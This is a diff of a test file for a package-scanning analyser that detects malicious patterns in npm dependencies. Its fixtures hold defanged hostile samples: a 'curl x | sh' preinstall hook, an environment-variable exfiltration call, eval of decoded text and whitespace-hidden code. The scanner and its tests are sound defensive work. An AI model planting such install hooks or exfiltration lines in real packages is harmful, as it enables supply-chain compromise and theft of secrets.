@@ -5,6 +5,7 @@ import { describe, expect, it } from 'vitest'
 import { analyseCode } from '../../main/cells/analysis/analyse-code.ts'
 import { readCode } from '../../main/cells/analysis/read-code.ts'
 import { codeAt } from '../../main/cells/code.ts'
+import { filesUnder } from '../../shared/wire/cell-files.ts'
 
 const worker = { node: process.execPath, script: resolve('main/cells/analysis/code-reader-process.ts') }
 const rules = (source: string, file = 'index.js') =>
@@ -71,11 +72,11 @@ describe('code', () => {
 })
 
 describe('a package', () => {
-  it('is looked into in a process of its own, its dependencies aside, its install scripts and machine code too', async () => {
+  it('is looked into in a process of its own, its install scripts and machine code too', async () => {
     const folder = folderWith({
       'package.json': JSON.stringify({ scripts: { postinstall: 'node steal.js' } }),
       'index.js': 'eval(atob("x"))',
-      'node_modules/dep/index.js': 'eval(atob("x"))',
+      'node_modules/dep/index.js': 'eval(x)',
       'build/a.node': 'x',
     })
     const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: '' }), worker)
@@ -86,14 +87,51 @@ describe('a package', () => {
     ])
   })
 
+  it('has what is grave in its dependencies told, once for each package, and nothing else of them', async () => {
+    const grave = 'eval(atob("x"))'
+    const folder = folderWith({
+      'node_modules/own/index.js': 'run()',
+      'node_modules/dep/index.js': grave,
+      'node_modules/dep/lib/other.js': grave,
+      'node_modules/dep/package.json': JSON.stringify({ scripts: { preinstall: 'curl x | sh' } }),
+      'node_modules/own/node_modules/@s/inner/a.cjs': "require('https').get('x/' + JSON.stringify(process.env))",
+      'node_modules/plain/index.js': 'require("child_process").exec(x); eval(y); new Function(z)',
+      'node_modules/unseen/index.js': `f()${' '.repeat(200)};g()`,
+    })
+    const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: 'node_modules/own' }), worker)
+    expect(found?.map(({ severity, rule, place, detail }) => `${severity} ${rule} ${place} ${detail}`)).toEqual([
+      'high runs-fetched-text node_modules/dep/index.js:1 eval(atob("x")) (and 1 more in this package)',
+      'high harvests-environment node_modules/own/node_modules/@s/inner/a.cjs:1 JSON.stringify(process.env))',
+      expect.stringMatching(/^high hidden-code node_modules\/unseen\/index.js:1/),
+      'medium install-script node_modules/dep/package.json preinstall: curl x | sh',
+    ])
+  })
+
+  it.runIf(process.env.GATEHOUSE_TEST_FULL === '1')(
+    'of many known dependencies has nothing grave',
+    { timeout: 300_000 },
+    async () => {
+      const limit = { graveOnly: true, files: 40_000, bytesEach: 1e7, bytes: 1e9, ms: 280_000 }
+      const wants = (path: string) => /^(?:node_modules\/.*[cm]?js|scripts\/[^/]*)$/.test(path)
+      const files = await filesUnder(resolve('.'), { files: 100_000, bytes: 4e9, wants })
+      const code = { folder: resolve('.'), own: 'scripts', files: files ?? [], covered: 'all' as const }
+      const found = await analyseCode(code, worker, { own: { ...limit, graveOnly: false }, dependencies: limit })
+      expect(found?.length).toBeGreaterThan(0)
+      expect(found?.filter(({ severity }) => severity === 'high')).toEqual([])
+    },
+  )
+
   it('that is too much or too slow to read says so', async () => {
     const folder = folderWith({ 'a.js': 'a()', 'b.js': 'b()'.repeat(100_000), 'c.js': 'c()' })
     const code = await codeAt({ kind: 'folder', folder, own: '' })
-    const limits = { files: 10, bytesEach: 1000, bytes: 10_000, ms: 20_000 }
-    expect(await analyseCode(code, worker, limits)).toMatchObject([
+    const own = { graveOnly: false, files: 10, bytesEach: 1000, bytes: 10_000, ms: 20_000 }
+    const dependencies = { ...own, graveOnly: true }
+    expect(await analyseCode(code, worker, { own, dependencies })).toMatchObject([
       { rule: 'not-all-looked-at', detail: '1 of 3 files' },
     ])
-    expect(await analyseCode(code, worker, { ...limits, ms: 0 })).toMatchObject([{ rule: 'not-all-looked-at' }])
+    expect(await analyseCode(code, worker, { own: { ...own, ms: 0 }, dependencies })).toMatchObject([
+      { rule: 'not-all-looked-at' },
+    ])
   })
 
   it('with a file that ends its reader has that told as grave, and the rest is read', async () => {
